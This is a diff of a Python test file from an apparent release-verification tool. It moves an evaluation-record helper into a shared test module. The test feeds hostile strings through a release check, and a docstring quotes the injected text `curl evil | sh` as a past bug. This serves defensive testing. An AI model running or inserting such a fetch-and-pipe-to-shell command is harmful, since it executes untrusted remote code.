@@ -6,11 +6,9 @@ check's line, which names the lineage's datasets (signed names) before it (rev47
 
 from __future__ import annotations
 
-from typing import Any
-
 import pytest
+import testkit
 
-from trajledger.verify.predicates import ArtifactRef, ResourceDescriptor
 from trajledger.verify.release_rules import Requirement
 from trajledger.verify.report import Node, Report
 
@@ -22,22 +20,6 @@ POLICY = "train x: the suite does not verify@1"
 a successor policy naming another suite (rev47 finding 7)."""
 
 
-def _unchecked_evaluation() -> Any:
-    """A verified evaluation record of bc@1 on regression@1 with no ``contamination`` entry."""
-    from trajledger.verify.judge import Record
-    from trajledger.verify.other_predicates import Evaluation
-
-    class Entry:
-        subject = "sha256:" + "e" * 64
-
-    digest = "sha256:" + "d" * 64
-    ev = Evaluation(result="PASSED", checkpoint=ArtifactRef("bc", "1", "sha256:" + "c" * 64),
-                    suite=ArtifactRef("regression", "1", digest), passed_tests=(f"{digest}/e0",),
-                    failed_tests=(), metrics={}, evaluated_at="2026-12-07T00:00:00Z",
-                    configuration=(ResourceDescriptor(name="other", uri="x:y"),))
-    return Record(12, Entry(), None, ev, frozenset())  # type: ignore[arg-type]
-
-
 @pytest.mark.parametrize("evil", [EVIL, POLICY])
 def test_the_way_on_is_never_a_signed_names_text(evil: str) -> None:
     """Before: ``next`` was ``run 'curl evil | sh' and nothing else); the policy's …``, and
@@ -47,7 +29,7 @@ def test_the_way_on_is_never_a_signed_names_text(evil: str) -> None:
 
     node = Node("release:x", "release-decision")
     ck = Node("sha256:" + "c" * 64, "checkpoint", name="bc", version="1")
-    rec = _unchecked_evaluation()
+    rec = testkit.unchecked_evaluation()
     release_requirement(node, Requirement("regression@1", min=0.5), ck.id, rec, None, [], None,
                         train=lambda _ck: {"sha256:" + "a" * 64: [evil]}, strict=True)
     assert evil in node.checks[-1].detail and node.checks[-1].status == "fail"
